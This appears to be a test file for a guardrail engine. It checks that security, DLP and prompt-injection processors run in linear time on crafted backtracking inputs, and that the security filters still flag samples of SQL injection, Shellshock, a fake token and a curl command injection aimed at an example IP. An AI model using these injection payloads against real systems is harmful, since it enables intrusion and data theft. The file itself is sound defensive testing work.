// Guardrail processors read hostile text in time linear in its length: each case once took seconds (or longer) on a few KB.
import assert from 'node:assert/strict';
import dlpCloud from '../../plugins/guardrails/dlp-cloud/index.js';
import modelSanitizer from '../../plugins/guardrails/model-sanitizer/index.js';
import promptInjectionDetection from '../../plugins/guardrails/prompt-injection-detection/index.js';
import securityFilters from '../../plugins/guardrails/security-filters/index.js';
import { GuardrailEngine, type GuardrailPlugin } from '../../src/index.js';

/** `unit` repeated to about `length` characters, between `before` and `after`. */
const run = (before: string, unit: string, after: string, length: number): string =>
  before + unit.repeat(Math.ceil((length - before.length - after.length) / unit.length)) + after;

/** Ordinary prose of `length` characters: the same processor's time on it is the yardstick. */
const prose = (length: number): string => run('', 'The quick brown fox jumps over the lazy dog near the river bank. ', '', length);

describe('guardrail processors on hostile text: time linear in the length', function () {
  // On the old expressions the cases below took from 2 s to hours; a failing case may use the whole timeout.
  this.timeout(60_000);
  let engine: GuardrailEngine;
  before(async () => {
    engine = new GuardrailEngine();
    for (const plugin of [securityFilters, dlpCloud, promptInjectionDetection, modelSanitizer]) {
      await engine.add(plugin as unknown as GuardrailPlugin<object, unknown>);
    }
    // Load the models before any timing.
    await engine.evaluate('promptinjectiondetection', 'hello');
    await engine.evaluate('model_sanitizer', Buffer.from('hello').toString('base64'));
  });

  /** Milliseconds one evaluation takes (the best of two, so a pause of the machine does not count). */
  async function elapsed(processor: string, text: string): Promise<number> {
    let best = Infinity;
    for (let i = 0; i < 2; i += 1) {
      const start = performance.now();
      await engine.evaluate(processor, text);
      best = Math.min(best, performance.now() - start);
      if (best > 2000) break; // clearly super-linear: one run says so
    }
    return best;
  }

  /**
   * Hostile text must cost about what prose of the same length costs through the same processor. A generous margin
   * (25 times, plus 250 ms) keeps a slow or busy machine from failing it; the old expressions were 1,000 times over.
   */
  async function assertLinear(processor: string, hostile: string, encode = (text: string): string => text): Promise<void> {
    const yardstick = await elapsed(processor, encode(prose(hostile.length)));
    const took = await elapsed(processor, encode(hostile));
    const bound = 25 * yardstick + 250;
    assert.ok(took < bound, `${processor} took ${took.toFixed(0)} ms on ${hostile.length} hostile characters (prose: ${yardstick.toFixed(1)} ms; bound ${bound.toFixed(0)} ms)`);
  }

  const cases: Array<[processor: string, what: string, text: string]> = [
    ['security_filters', "a quote, `or` and 2,000 spaces (sql.tautology, sql.boolean_comment)", run("x' or", ' ', 'x', 2000)],
    ['security_filters', '`||+` and 2,000 tabs (sql.tautology)', run('||+', '\t', '\u0000', 2000)],
    ['security_filters', '`union` and 30,000 spaces (sql.union_select)', run('x union', ' ', 'x', 30_000)],
    ['security_filters', '`""OR ""` and 30,000 spaces (sql.tautology)', run('""OR ""', ' ', 'x', 30_000)],
    ['security_filters', '`case when` and 40,000 tabs (sql.error_based)', run('CASE\tWHEN+', '\t', '*', 40_000)],
    ['security_filters', '`grant dba on` and 3,000 `+/**/` (sql.privilege_change)', run('GRANT\tDBA+ON+', '+/**/', 'a', 3000)],
    ['security_filters', '`;curl` and 45 options glued by `+` (cmd.chained_command)', run(';curl+', '+-', '\n', 97)],
    ['security_filters', '`;curl` and options glued by `$IFS` (cmd.chained_command)', run(';curl$IFS', '-a$IFS', '\n', 178)],
    ['security_filters', '`(){:` and 40,000 tabs (cmd.shellshock)', run('(){:', '\t', '', 40_000)],
    ['security_filters', '60,000 characters of `eyJJ_` (secret.jwt)', run('', 'eyJJ_', '', 60_000)],
    ['dlp_cloud', '60,000 characters of `eyJJ_` (JSON_WEB_TOKEN)', run('', 'eyJJ_', '', 60_000)],
    ['promptinjectiondetection', 'a word of 60,000 "!" (leetspeak folding)', run('a', '!', 'a', 60_000)],
    ['promptinjectiondetection', 'a word of 60,000 "|" (leetspeak folding)', run('x', '|', 'y', 60_000)],
    ['promptinjectiondetection', '100,000 characters of spelt-out letters glued to "_" (letter joining)', run('a', 'a_ a_a_a__', '_', 100_000)],
  ];
  for (const [processor, what, text] of cases) {
    it(`${processor}: ${what}`, async () => {
      await assertLinear(processor, text);
    });
  }

  it('model_sanitizer: a URL holding 40,000 ")" (malicious_uris)', async () => {
    await assertLinear('model_sanitizer', run('see http://a.com/', ')', 'a', 40_000), (text) => Buffer.from(text).toString('base64'));
  });

  it('security_filters still finds what the rewritten rules find', async () => {
    const cases: Array<[family: string, text: string]> = [
      ['sql_injection', "name=x' or  ( 'a')  = ( 'a"],
      ['sql_injection', "user=admin' or 1=1 --"],
      ['sql_injection', 'id=1 UNION ( SELECT password FROM users'],
      ['sql_injection', "q=(case when ( 1 = 1 then 1 else 0 end)"],
      ['sql_injection', "x' or ''  ''"],
      ['sql_injection', "x' or ''-''"],
      ['sql_injection', 'id=1 order by 10000 --'],
      ['command_injection', 'host=a;curl -s --insecure -H$IFS http://203.0.113.7/x'],
      ['command_injection', "() { :;  }; echo vulnerable"],
      ['secrets_leakage', `ghs_12345_${['eyJhbGciOiJIUzI1NiJ9', 'eyJzdWIiOiIxMjM0NTY3ODkwIn0', 'c2lnbmF0dXJlLXBhcnQtb2YtdGhlLXRva2Vu'].join('.')}`],
    ];
    for (const [family, text] of cases) {
      const outcome = await engine.evaluate('security_filters', text);
      assert.ok(outcome.triggered?.includes(family), `${text} → ${JSON.stringify(outcome.results)}`);
    }
  });
});
